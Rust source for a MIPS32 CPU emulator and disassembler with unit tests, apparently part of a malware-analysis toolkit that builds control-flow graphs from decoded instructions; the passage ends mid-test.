                self.set_reg(rt, v);
            }
            0x23 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                let v = self.mem.read_u32(a)?;
                self.set_reg(rt, v);
            }
            0x24 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                let v = u32::from(self.mem.read_u8(a)?);
                self.set_reg(rt, v);
            }
            0x25 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                let v = u32::from(self.mem.read_u16(a)?);
                self.set_reg(rt, v);
            }
            0x28 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                self.mem.write_u8(a, self.reg(rt) as u8)?;
            }
            0x29 => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                self.mem.write_u16(a, self.reg(rt) as u16)?;
            }
            0x2b => {
                let a = self.reg(rs).wrapping_add(simm as u32);
                self.mem.write_u32(a, self.reg(rt))?;
            }
            _ => return Err(CpuError::IllegalInstruction { pc, word }),
        }
        Ok(StepOutcome::Continue)
    }

    /// Run until a syscall, a fault, or `budget` instructions retire.
    /// Returns `Ok(Some(StepOutcome::Syscall))` on syscall, `Ok(None)`
    /// when the budget is exhausted.
    pub fn run(&mut self, budget: u64) -> Result<Option<StepOutcome>, CpuError> {
        for _ in 0..budget {
            match self.step()? {
                StepOutcome::Continue => {}
                s @ StepOutcome::Syscall => return Ok(Some(s)),
            }
        }
        Ok(None)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::{Assembler, Ins, Reg};

    /// Assemble and run a program until `break`, then return the CPU.
    fn run(build: impl FnOnce(&mut Assembler)) -> Cpu {
        let base = 0x0040_0000;
        let mut a = Assembler::new(base);
        build(&mut a);
        a.ins(Ins::Break);
        let code = a.assemble().unwrap();
        let mut mem = Memory::new();
        mem.map(base, code, false);
        mem.map_zeroed(0x1000_0000, 4096, true);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        loop {
            match cpu.step() {
                Ok(StepOutcome::Continue) => {}
                Ok(StepOutcome::Syscall) => panic!("unexpected syscall"),
                Err(CpuError::Break { .. }) => return cpu,
                Err(e) => panic!("fault: {e}"),
            }
            assert!(cpu.retired < 100_000, "runaway test program");
        }
    }

    #[test]
    fn arithmetic_and_logic() {
        let cpu = run(|a| {
            a.ins(Ins::Li(Reg::T0, 7))
                .ins(Ins::Li(Reg::T1, 5))
                .ins(Ins::Addu(Reg::T2, Reg::T0, Reg::T1)) // 12
                .ins(Ins::Subu(Reg::T3, Reg::T0, Reg::T1)) // 2
                .ins(Ins::And(Reg::T4, Reg::T0, Reg::T1)) // 5
                .ins(Ins::Or(Reg::T5, Reg::T0, Reg::T1)) // 7
                .ins(Ins::Xor(Reg::T6, Reg::T0, Reg::T1)) // 2
                .ins(Ins::Sll(Reg::T7, Reg::T0, 4)); // 112
        });
        assert_eq!(cpu.reg(10), 12);
        assert_eq!(cpu.reg(11), 2);
        assert_eq!(cpu.reg(12), 5);
        assert_eq!(cpu.reg(13), 7);
        assert_eq!(cpu.reg(14), 2);
        assert_eq!(cpu.reg(15), 112);
    }

    #[test]
    fn zero_register_is_hardwired() {
        let cpu = run(|a| {
            a.ins(Ins::Li(Reg::T0, 99))
                .ins(Ins::Addu(Reg::ZERO, Reg::T0, Reg::T0));
        });
        assert_eq!(cpu.reg(0), 0);
    }

    #[test]
    fn loop_with_branch_counts_correctly() {
        let cpu = run(|a| {
            a.ins(Ins::Li(Reg::T0, 0))
                .ins(Ins::Li(Reg::T1, 10))
                .label("loop")
                .ins(Ins::Addiu(Reg::T0, Reg::T0, 1))
                .ins(Ins::Bne(Reg::T0, Reg::T1, "loop".into()));
        });
        assert_eq!(cpu.reg(8), 10);
    }

    #[test]
    fn delay_slot_executes_before_branch() {
        // Hand-encode: beq taken with an addiu in the delay slot.
        let base = 0x0040_0000;
        let a = Assembler::new(base);
        // beq $zero,$zero,+2 (skip one word after delay slot)
        // delay slot: addiu $t0, $t0, 5  (must execute!)
        // skipped: addiu $t0, $t0, 100
        // target: break
        let code: Vec<u32> = vec![
            0x1000_0002, // beq $zero,$zero,+2
            0x2508_0005, // addiu $t0,$t0,5 (delay slot)
            0x2508_0064, // addiu $t0,$t0,100 (skipped)
            0x0000_000d, // break
        ];
        let bytes: Vec<u8> = code.iter().flat_map(|w| w.to_be_bytes()).collect();
        let mut mem = Memory::new();
        mem.map(base, bytes, false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        let _ = a;
        loop {
            match cpu.step() {
                Ok(_) => {}
                Err(CpuError::Break { .. }) => break,
                Err(e) => panic!("{e}"),
            }
        }
        assert_eq!(cpu.reg(8), 5, "delay slot must run; skipped word must not");
    }

    #[test]
    fn jal_links_and_jr_returns() {
        let cpu = run(|a| {
            a.ins(Ins::Jal("fn".into()))
                .ins(Ins::Li(Reg::T5, 1)) // after return
                .ins(Ins::B("done".into()))
                .label("fn")
                .ins(Ins::Li(Reg::T4, 42))
                .ins(Ins::Jr(Reg::RA))
                .label("done");
        });
        assert_eq!(cpu.reg(12), 42);
        assert_eq!(cpu.reg(13), 1);
    }

    #[test]
    fn memory_load_store() {
        let cpu = run(|a| {
            a.ins(Ins::Li(Reg::T0, 0x1000_0000))
                .ins(Ins::Li(Reg::T1, 0xcafe_babe))
                .ins(Ins::Sw(Reg::T1, Reg::T0, 0))
                .ins(Ins::Lbu(Reg::T2, Reg::T0, 0)) // 0xca (big-endian)
                .ins(Ins::Lb(Reg::T3, Reg::T0, 0)) // sign-extended 0xffffffca
                .ins(Ins::Lhu(Reg::T4, Reg::T0, 2)) // 0xbabe
                .ins(Ins::Lw(Reg::T5, Reg::T0, 0));
        });
        assert_eq!(cpu.reg(10), 0xca);
        assert_eq!(cpu.reg(11), 0xffff_ffca);
        assert_eq!(cpu.reg(12), 0xbabe);
        assert_eq!(cpu.reg(13), 0xcafe_babe);
    }

    #[test]
    fn mult_div_hi_lo() {
        let cpu = run(|a| {
            a.ins(Ins::Li(Reg::T0, 100_000))
                .ins(Ins::Li(Reg::T1, 70_000))
                .ins(Ins::Multu(Reg::T0, Reg::T1))
                .ins(Ins::Mflo(Reg::T2))
                .ins(Ins::Mfhi(Reg::T3))
                .ins(Ins::Li(Reg::T4, 17))
                .ins(Ins::Li(Reg::T5, 5))
                .ins(Ins::Divu(Reg::T4, Reg::T5))
                .ins(Ins::Mflo(Reg::T6))
                .ins(Ins::Mfhi(Reg::T7));
        });
        let p = 100_000u64 * 70_000;
        assert_eq!(cpu.reg(10), p as u32);
        assert_eq!(cpu.reg(11), (p >> 32) as u32);
        assert_eq!(cpu.reg(14), 3);
        assert_eq!(cpu.reg(15), 2);
    }

    #[test]
    fn comparisons() {
        let cpu = run(|a| {
            a.ins(Ins::Li(Reg::T0, 0xffff_fffb)) // -5
                .ins(Ins::Li(Reg::T1, 3))
                .ins(Ins::Slt(Reg::T2, Reg::T0, Reg::T1)) // signed: -5 < 3 → 1
                .ins(Ins::Sltu(Reg::T3, Reg::T0, Reg::T1)) // unsigned → 0
                .ins(Ins::Slti(Reg::T4, Reg::T1, 10)) // 1
                .ins(Ins::Sltiu(Reg::T5, Reg::T1, 2)); // 0
        });
        assert_eq!(cpu.reg(10), 1);
        assert_eq!(cpu.reg(11), 0);
        assert_eq!(cpu.reg(12), 1);
        assert_eq!(cpu.reg(13), 0);
    }

    #[test]
    fn divide_by_zero_faults() {
        let base = 0x0040_0000;
        let mut a = Assembler::new(base);
        a.ins(Ins::Li(Reg::T0, 1))
            .ins(Ins::Divu(Reg::T0, Reg::ZERO));
        let code = a.assemble().unwrap();
        let mut mem = Memory::new();
        mem.map(base, code, false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        let err = loop {
            match cpu.step() {
                Ok(_) => {}
                Err(e) => break e,
            }
        };
        assert!(matches!(err, CpuError::DivideByZero { .. }));
    }

    #[test]
    fn illegal_instruction_faults() {
        let mut mem = Memory::new();
        mem.map(0x400000, 0xffff_ffffu32.to_be_bytes().to_vec(), false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, 0x400000);
        assert!(matches!(
            cpu.step(),
            Err(CpuError::IllegalInstruction { .. })
        ));
    }

    #[test]
    fn syscall_surfaces_to_embedder() {
        let base = 0x400000;
        let mut a = Assembler::new(base);
        a.ins(Ins::Li(Reg::V0, 4001)).ins(Ins::Syscall);
        let mut mem = Memory::new();
        mem.map(base, a.assemble().unwrap(), false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        let out = cpu.run(100).unwrap();
        assert_eq!(out, Some(StepOutcome::Syscall));
        assert_eq!(cpu.reg(2), 4001);
    }

    #[test]
    fn run_budget_exhausts() {
        let base = 0x400000;
        let mut a = Assembler::new(base);
        a.label("spin").ins(Ins::J("spin".into()));
        let mut mem = Memory::new();
        mem.map(base, a.assemble().unwrap(), false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        assert_eq!(cpu.run(1000).unwrap(), None);
        assert_eq!(cpu.retired, 1000);
    }
}
