//! A MIPS32 disassembler for the subset the assembler emits.
//!
//! Used by tests (assembler/disassembler agreement) and by analyst-facing
//! tooling (the `dissect` example prints the text section of a sample).

use crate::asm::REG_NAMES;

fn r(n: u32) -> &'static str {
    REG_NAMES[(n & 31) as usize]
}

/// Disassemble one big-endian instruction word at address `pc`.
/// Returns a human-readable string; unknown encodings come back as
/// `.word 0x????????`.
pub fn disassemble(word: u32, pc: u32) -> String {
    let op = word >> 26;
    let rs = (word >> 21) & 31;
    let rt = (word >> 16) & 31;
    let rd = (word >> 11) & 31;
    let shamt = (word >> 6) & 31;
    let funct = word & 0x3f;
    let imm = (word & 0xffff) as u16;
    let simm = imm as i16;
    let btarget = pc
        .wrapping_add(4)
        .wrapping_add(((simm as i32) << 2) as u32);
    match op {
        0 => match funct {
            0x00 if word == 0 => "nop".to_string(),
            0x00 => format!("sll ${}, ${}, {}", r(rd), r(rt), shamt),
            0x02 => format!("srl ${}, ${}, {}", r(rd), r(rt), shamt),
            0x03 => format!("sra ${}, ${}, {}", r(rd), r(rt), shamt),
            0x04 => format!("sllv ${}, ${}, ${}", r(rd), r(rt), r(rs)),
            0x06 => format!("srlv ${}, ${}, ${}", r(rd), r(rt), r(rs)),
            0x08 => format!("jr ${}", r(rs)),
            0x09 => format!("jalr ${}, ${}", r(rd), r(rs)),
            0x0c => "syscall".to_string(),
            0x0d => "break".to_string(),
            0x10 => format!("mfhi ${}", r(rd)),
            0x12 => format!("mflo ${}", r(rd)),
            0x18 => format!("mult ${}, ${}", r(rs), r(rt)),
            0x19 => format!("multu ${}, ${}", r(rs), r(rt)),
            0x1a => format!("div ${}, ${}", r(rs), r(rt)),
            0x1b => format!("divu ${}, ${}", r(rs), r(rt)),
            0x21 => format!("addu ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x23 => format!("subu ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x24 => format!("and ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x25 => format!("or ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x26 => format!("xor ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x27 => format!("nor ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x2a => format!("slt ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x2b => format!("sltu ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            _ => format!(".word {word:#010x}"),
        },
        0x01 => match rt {
            0 => format!("bltz ${}, {btarget:#x}", r(rs)),
            1 => format!("bgez ${}, {btarget:#x}", r(rs)),
            _ => format!(".word {word:#010x}"),
        },
        0x02 => format!(
            "j {:#x}",
            (pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2
        ),
        0x03 => format!(
            "jal {:#x}",
            (pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2
        ),
        0x04 => format!("beq ${}, ${}, {btarget:#x}", r(rs), r(rt)),
        0x05 => format!("bne ${}, ${}, {btarget:#x}", r(rs), r(rt)),
        0x06 => format!("blez ${}, {btarget:#x}", r(rs)),
        0x07 => format!("bgtz ${}, {btarget:#x}", r(rs)),
        0x08 | 0x09 => format!("addiu ${}, ${}, {simm}", r(rt), r(rs)),
        0x0a => format!("slti ${}, ${}, {simm}", r(rt), r(rs)),
        0x0b => format!("sltiu ${}, ${}, {simm}", r(rt), r(rs)),
        0x0c => format!("andi ${}, ${}, {imm:#x}", r(rt), r(rs)),
        0x0d => format!("ori ${}, ${}, {imm:#x}", r(rt), r(rs)),
        0x0e => format!("xori ${}, ${}, {imm:#x}", r(rt), r(rs)),
        0x0f => format!("lui ${}, {imm:#x}", r(rt)),
        0x20 => format!("lb ${}, {simm}(${})", r(rt), r(rs)),
        0x21 => format!("lh ${}, {simm}(${})", r(rt), r(rs)),
        0x23 => format!("lw ${}, {simm}(${})", r(rt), r(rs)),
        0x24 => format!("lbu ${}, {simm}(${})", r(rt), r(rs)),
        0x25 => format!("lhu ${}, {simm}(${})", r(rt), r(rs)),
        0x28 => format!("sb ${}, {simm}(${})", r(rt), r(rs)),
        0x29 => format!("sh ${}, {simm}(${})", r(rt), r(rs)),
        0x2b => format!("sw ${}, {simm}(${})", r(rt), r(rs)),
        _ => format!(".word {word:#010x}"),
    }
}

/// Disassemble a big-endian code buffer starting at `base`; one line per
/// word.
pub fn disassemble_all(code: &[u8], base: u32) -> Vec<String> {
    code.chunks_exact(4)
        .enumerate()
        .map(|(i, c)| {
            let w = u32::from_be_bytes([c[0], c[1], c[2], c[3]]);
            let pc = base + (i as u32) * 4;
            format!("{pc:#010x}:  {w:08x}  {}", disassemble(w, pc))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::{Assembler, Ins, Reg};

    #[test]
    fn known_encodings() {
        assert_eq!(disassemble(0x00851021, 0), "addu $v0, $a0, $a1");
        assert_eq!(disassemble(0x34081234, 0), "ori $t0, $zero, 0x1234");
        assert_eq!(disassemble(0x8fa90008, 0), "lw $t1, 8($sp)");
        assert_eq!(disassemble(0, 0), "nop");
        assert_eq!(disassemble(0x0000000c, 0), "syscall");
    }

    #[test]
    fn branch_targets_are_absolute() {
        // beq $zero,$zero,-2 at 0x400008 → target 0x400004... offset -2
        // encoded imm = 0xfffe; target = pc+4 + (-2)*4 = 0x40000c - 8 = 0x400004
        let s = disassemble(0x1000_fffe, 0x400008);
        assert_eq!(s, "beq $zero, $zero, 0x400004");
    }

    #[test]
    fn assembler_output_disassembles_cleanly() {
        let mut a = Assembler::new(0x400000);
        a.ins(Ins::Li(Reg::T0, 0x12345678))
            .ins(Ins::Addu(Reg::T1, Reg::T0, Reg::T0))
            .label("l")
            .ins(Ins::Bne(Reg::T1, Reg::ZERO, "l".into()))
            .ins(Ins::Jal("l".into()))
            .ins(Ins::Lw(Reg::A0, Reg::SP, -4))
            .ins(Ins::Syscall)
            .ins(Ins::Jr(Reg::RA));
        let code = a.assemble().unwrap();
        let lines = disassemble_all(&code, 0x400000);
        assert_eq!(lines.len(), code.len() / 4);
        assert!(lines.iter().all(|l| !l.contains(".word")), "{lines:#?}");
        assert!(lines[0].contains("lui $t0, 0x1234"));
        assert!(lines[1].contains("ori $t0, $t0, 0x5678"));
    }
}
