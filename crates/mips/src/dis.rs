//! A MIPS32 disassembler for the subset the assembler emits.
//!
//! Two entry points:
//!
//! * [`disassemble`] / [`disassemble_all`] — human-readable text, used by
//!   tests (assembler/disassembler agreement) and by analyst-facing
//!   tooling (the `dissect` example prints the text section of a sample).
//! * [`decode`] — a *structured* decoder returning an [`Inst`] with the
//!   instruction's field values, control-flow class ([`Flow`]) and
//!   resolved branch/jump targets. This is what `malnet-xray` builds its
//!   CFG, syscall-reachability and `lui`/`ori` constant propagation on.
//!   A decoded instruction can be lowered back to an assembler [`Ins`]
//!   via [`Inst::to_ins`], which pins the decoder against the assembler
//!   (see the `asm → dis → asm` round-trip proptest).

use crate::asm::{Ins, Reg, Target, REG_NAMES};

fn r(n: u32) -> &'static str {
    REG_NAMES[(n & 31) as usize]
}

/// Disassemble one big-endian instruction word at address `pc`.
/// Returns a human-readable string; unknown encodings come back as
/// `.word 0x????????`.
pub fn disassemble(word: u32, pc: u32) -> String {
    let op = word >> 26;
    let rs = (word >> 21) & 31;
    let rt = (word >> 16) & 31;
    let rd = (word >> 11) & 31;
    let shamt = (word >> 6) & 31;
    let funct = word & 0x3f;
    let imm = (word & 0xffff) as u16;
    let simm = imm as i16;
    let btarget = pc.wrapping_add(4).wrapping_add(((simm as i32) << 2) as u32);
    match op {
        0 => match funct {
            0x00 if word == 0 => "nop".to_string(),
            0x00 => format!("sll ${}, ${}, {}", r(rd), r(rt), shamt),
            0x02 => format!("srl ${}, ${}, {}", r(rd), r(rt), shamt),
            0x03 => format!("sra ${}, ${}, {}", r(rd), r(rt), shamt),
            0x04 => format!("sllv ${}, ${}, ${}", r(rd), r(rt), r(rs)),
            0x06 => format!("srlv ${}, ${}, ${}", r(rd), r(rt), r(rs)),
            0x08 => format!("jr ${}", r(rs)),
            0x09 => format!("jalr ${}, ${}", r(rd), r(rs)),
            0x0c => "syscall".to_string(),
            0x0d => "break".to_string(),
            0x10 => format!("mfhi ${}", r(rd)),
            0x12 => format!("mflo ${}", r(rd)),
            0x18 => format!("mult ${}, ${}", r(rs), r(rt)),
            0x19 => format!("multu ${}, ${}", r(rs), r(rt)),
            0x1a => format!("div ${}, ${}", r(rs), r(rt)),
            0x1b => format!("divu ${}, ${}", r(rs), r(rt)),
            0x21 => format!("addu ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x23 => format!("subu ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x24 => format!("and ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x25 => format!("or ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x26 => format!("xor ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x27 => format!("nor ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x2a => format!("slt ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            0x2b => format!("sltu ${}, ${}, ${}", r(rd), r(rs), r(rt)),
            _ => format!(".word {word:#010x}"),
        },
        0x01 => match rt {
            0 => format!("bltz ${}, {btarget:#x}", r(rs)),
            1 => format!("bgez ${}, {btarget:#x}", r(rs)),
            _ => format!(".word {word:#010x}"),
        },
        0x02 => format!(
            "j {:#x}",
            (pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2
        ),
        0x03 => format!(
            "jal {:#x}",
            (pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2
        ),
        0x04 => format!("beq ${}, ${}, {btarget:#x}", r(rs), r(rt)),
        0x05 => format!("bne ${}, ${}, {btarget:#x}", r(rs), r(rt)),
        0x06 => format!("blez ${}, {btarget:#x}", r(rs)),
        0x07 => format!("bgtz ${}, {btarget:#x}", r(rs)),
        0x08 | 0x09 => format!("addiu ${}, ${}, {simm}", r(rt), r(rs)),
        0x0a => format!("slti ${}, ${}, {simm}", r(rt), r(rs)),
        0x0b => format!("sltiu ${}, ${}, {simm}", r(rt), r(rs)),
        0x0c => format!("andi ${}, ${}, {imm:#x}", r(rt), r(rs)),
        0x0d => format!("ori ${}, ${}, {imm:#x}", r(rt), r(rs)),
        0x0e => format!("xori ${}, ${}, {imm:#x}", r(rt), r(rs)),
        0x0f => format!("lui ${}, {imm:#x}", r(rt)),
        0x20 => format!("lb ${}, {simm}(${})", r(rt), r(rs)),
        0x21 => format!("lh ${}, {simm}(${})", r(rt), r(rs)),
        0x23 => format!("lw ${}, {simm}(${})", r(rt), r(rs)),
        0x24 => format!("lbu ${}, {simm}(${})", r(rt), r(rs)),
        0x25 => format!("lhu ${}, {simm}(${})", r(rt), r(rs)),
        0x28 => format!("sb ${}, {simm}(${})", r(rt), r(rs)),
        0x29 => format!("sh ${}, {simm}(${})", r(rt), r(rs)),
        0x2b => format!("sw ${}, {simm}(${})", r(rt), r(rs)),
        _ => format!(".word {word:#010x}"),
    }
}

/// Disassemble a big-endian code buffer starting at `base`; one line per
/// word.
pub fn disassemble_all(code: &[u8], base: u32) -> Vec<String> {
    code.chunks_exact(4)
        .enumerate()
        .map(|(i, c)| {
            let w = u32::from_be_bytes([c[0], c[1], c[2], c[3]]);
            let pc = base + (i as u32) * 4;
            format!("{pc:#010x}:  {w:08x}  {}", disassemble(w, pc))
        })
        .collect()
}

/// Control-flow class of a decoded instruction word.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flow {
    /// Straight-line instruction (ALU, load/store, `lui`, ...).
    Normal,
    /// Conditional branch to the absolute address; the delay slot at
    /// `pc + 4` executes either way, and the fall-through resumes at
    /// `pc + 8`.
    Branch(u32),
    /// Unconditional `j` to the absolute address (delay slot at `pc + 4`).
    Jump(u32),
    /// `jal` to the absolute address; the callee conventionally returns
    /// to `pc + 8`.
    Call(u32),
    /// `jr` — register-indirect jump, target statically unknown.
    JumpReg,
    /// `jalr` — register-indirect call.
    CallReg,
    /// `syscall` (falls through after the kernel services it).
    Syscall,
    /// `break`.
    Break,
}

/// A structurally decoded big-endian MIPS32 instruction word.
///
/// Field accessors expose the raw bit fields; [`Inst::flow`] classifies
/// control flow with branch/jump targets already made absolute (same
/// arithmetic the text disassembler prints). `known` is `true` iff the
/// word decodes to a named mnemonic — exactly the words [`disassemble`]
/// does *not* render as `.word`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Inst {
    /// The raw instruction word.
    pub word: u32,
    /// The address the word was decoded at.
    pub pc: u32,
    /// Control-flow class, with absolute targets.
    pub flow: Flow,
    /// Whether the encoding is one the assembler can emit.
    pub known: bool,
}

impl Inst {
    /// Primary opcode (bits 31..26).
    pub fn op(&self) -> u32 {
        self.word >> 26
    }
    /// `rs` register field (bits 25..21).
    pub fn rs(&self) -> u8 {
        ((self.word >> 21) & 31) as u8
    }
    /// `rt` register field (bits 20..16).
    pub fn rt(&self) -> u8 {
        ((self.word >> 16) & 31) as u8
    }
    /// `rd` register field (bits 15..11).
    pub fn rd(&self) -> u8 {
        ((self.word >> 11) & 31) as u8
    }
    /// Shift amount field (bits 10..6).
    pub fn shamt(&self) -> u8 {
        ((self.word >> 6) & 31) as u8
    }
    /// R-type function field (bits 5..0).
    pub fn funct(&self) -> u32 {
        self.word & 0x3f
    }
    /// Zero-extended 16-bit immediate.
    pub fn imm(&self) -> u16 {
        (self.word & 0xffff) as u16
    }
    /// Sign-extended 16-bit immediate.
    pub fn simm(&self) -> i16 {
        self.imm() as i16
    }

    /// Lower back to the assembler's [`Ins`] representation; `None` for
    /// unknown encodings. Branch/jump targets come back as
    /// [`Target::Abs`], so re-assembling the result at the same `pc`
    /// reproduces the original word (the delay-slot `nop` the assembler
    /// appends is a separate word in the original stream).
    pub fn to_ins(&self) -> Option<Ins> {
        let (rs, rt, rd) = (Reg(self.rs()), Reg(self.rt()), Reg(self.rd()));
        let (imm, simm, sh) = (self.imm(), self.simm(), self.shamt());
        Some(match self.op() {
            0 => match self.funct() {
                0x00 => Ins::Sll(rd, rt, sh),
                0x02 => Ins::Srl(rd, rt, sh),
                0x03 => Ins::Sra(rd, rt, sh),
                0x04 => Ins::Sllv(rd, rt, rs),
                0x06 => Ins::Srlv(rd, rt, rs),
                0x08 => Ins::Jr(rs),
                0x09 => Ins::Jalr(rd, rs),
                0x0c => Ins::Syscall,
                0x0d => Ins::Break,
                0x10 => Ins::Mfhi(rd),
                0x12 => Ins::Mflo(rd),
                0x18 => Ins::Mult(rs, rt),
                0x19 => Ins::Multu(rs, rt),
                0x1a => Ins::Div(rs, rt),
                0x1b => Ins::Divu(rs, rt),
                0x21 => Ins::Addu(rd, rs, rt),
                0x23 => Ins::Subu(rd, rs, rt),
                0x24 => Ins::And(rd, rs, rt),
                0x25 => Ins::Or(rd, rs, rt),
                0x26 => Ins::Xor(rd, rs, rt),
                0x27 => Ins::Nor(rd, rs, rt),
                0x2a => Ins::Slt(rd, rs, rt),
                0x2b => Ins::Sltu(rd, rs, rt),
                _ => return None,
            },
            0x01 => match self.rt() {
                0 => Ins::Bltz(rs, self.abs_target()?),
                1 => Ins::Bgez(rs, self.abs_target()?),
                _ => return None,
            },
            0x02 => Ins::J(self.abs_target()?),
            0x03 => Ins::Jal(self.abs_target()?),
            0x04 => Ins::Beq(rs, rt, self.abs_target()?),
            0x05 => Ins::Bne(rs, rt, self.abs_target()?),
            0x06 => Ins::Blez(rs, self.abs_target()?),
            0x07 => Ins::Bgtz(rs, self.abs_target()?),
            0x08 | 0x09 => Ins::Addiu(rt, rs, simm),
            0x0a => Ins::Slti(rt, rs, simm),
            0x0b => Ins::Sltiu(rt, rs, simm),
            0x0c => Ins::Andi(rt, rs, imm),
            0x0d => Ins::Ori(rt, rs, imm),
            0x0e => Ins::Xori(rt, rs, imm),
            0x0f => Ins::Lui(rt, imm),
            0x20 => Ins::Lb(rt, rs, simm),
            0x21 => Ins::Lh(rt, rs, simm),
            0x23 => Ins::Lw(rt, rs, simm),
            0x24 => Ins::Lbu(rt, rs, simm),
            0x25 => Ins::Lhu(rt, rs, simm),
            0x28 => Ins::Sb(rt, rs, simm),
            0x29 => Ins::Sh(rt, rs, simm),
            0x2b => Ins::Sw(rt, rs, simm),
            _ => return None,
        })
    }

    fn abs_target(&self) -> Option<Target> {
        match self.flow {
            Flow::Branch(t) | Flow::Jump(t) | Flow::Call(t) => Some(Target::Abs(t)),
            _ => None,
        }
    }
}

/// Structurally decode one big-endian instruction word at address `pc`.
///
/// Never fails: unknown encodings come back with `known == false` and
/// `Flow::Normal` (a conservative fall-through, matching how the CPU's
/// reserved-instruction path is not modelled here).
pub fn decode(word: u32, pc: u32) -> Inst {
    let op = word >> 26;
    let rt = (word >> 16) & 31;
    let funct = word & 0x3f;
    let simm = (word & 0xffff) as u16 as i16;
    let btarget = pc.wrapping_add(4).wrapping_add(((simm as i32) << 2) as u32);
    let jtarget = (pc.wrapping_add(4) & 0xf000_0000) | (word & 0x03ff_ffff) << 2;
    let (flow, known) = match op {
        0 => match funct {
            0x08 => (Flow::JumpReg, true),
            0x09 => (Flow::CallReg, true),
            0x0c => (Flow::Syscall, true),
            0x0d => (Flow::Break, true),
            0x00 | 0x02 | 0x03 | 0x04 | 0x06 | 0x10 | 0x12 | 0x18 | 0x19 | 0x1a | 0x1b | 0x21
            | 0x23 | 0x24 | 0x25 | 0x26 | 0x27 | 0x2a | 0x2b => (Flow::Normal, true),
            _ => (Flow::Normal, false),
        },
        0x01 => (Flow::Branch(btarget), rt <= 1),
        0x02 => (Flow::Jump(jtarget), true),
        0x03 => (Flow::Call(jtarget), true),
        0x04..=0x07 => (Flow::Branch(btarget), true),
        0x08..=0x0f => (Flow::Normal, true),
        0x20 | 0x21 | 0x23 | 0x24 | 0x25 | 0x28 | 0x29 | 0x2b => (Flow::Normal, true),
        _ => (Flow::Normal, false),
    };
    // An op-0x01 word with rt > 1 is not a branch we can name; treat it
    // as an unknown straight-line word rather than a branch to garbage.
    let flow = if !known { Flow::Normal } else { flow };
    Inst {
        word,
        pc,
        flow,
        known,
    }
}

/// Structurally decode a big-endian code buffer starting at `base`, one
/// [`Inst`] per word (trailing bytes that do not fill a word are
/// ignored). This is the shared linear sweep under both `malnet-xray`'s
/// CFG construction and the block execution cache in [`crate::block`].
pub fn decode_all(code: &[u8], base: u32) -> Vec<Inst> {
    code.chunks_exact(4)
        .enumerate()
        .map(|(i, c)| {
            let w = u32::from_be_bytes([c[0], c[1], c[2], c[3]]);
            decode(w, base.wrapping_add(4 * i as u32))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::{Assembler, Ins, Reg};

    #[test]
    fn decode_all_sweeps_words() {
        let code = [0x00u8, 0x85, 0x10, 0x21, 0x00, 0x00, 0x00, 0x0c, 0xff];
        let insts = decode_all(&code, 0x400000);
        assert_eq!(insts.len(), 2); // trailing 0xff ignored
        assert_eq!(insts[0].pc, 0x400000);
        assert_eq!(insts[1].pc, 0x400004);
        assert_eq!(insts[1].flow, Flow::Syscall);
    }

    #[test]
    fn known_encodings() {
        assert_eq!(disassemble(0x00851021, 0), "addu $v0, $a0, $a1");
        assert_eq!(disassemble(0x34081234, 0), "ori $t0, $zero, 0x1234");
        assert_eq!(disassemble(0x8fa90008, 0), "lw $t1, 8($sp)");
        assert_eq!(disassemble(0, 0), "nop");
        assert_eq!(disassemble(0x0000000c, 0), "syscall");
    }

    #[test]
    fn branch_targets_are_absolute() {
        // beq $zero,$zero,-2 at 0x400008 → target 0x400004... offset -2
        // encoded imm = 0xfffe; target = pc+4 + (-2)*4 = 0x40000c - 8 = 0x400004
        let s = disassemble(0x1000_fffe, 0x400008);
        assert_eq!(s, "beq $zero, $zero, 0x400004");
    }

    #[test]
    fn assembler_output_disassembles_cleanly() {
        let mut a = Assembler::new(0x400000);
        a.ins(Ins::Li(Reg::T0, 0x12345678))
            .ins(Ins::Addu(Reg::T1, Reg::T0, Reg::T0))
            .label("l")
            .ins(Ins::Bne(Reg::T1, Reg::ZERO, "l".into()))
            .ins(Ins::Jal("l".into()))
            .ins(Ins::Lw(Reg::A0, Reg::SP, -4))
            .ins(Ins::Syscall)
            .ins(Ins::Jr(Reg::RA));
        let code = a.assemble().unwrap();
        let lines = disassemble_all(&code, 0x400000);
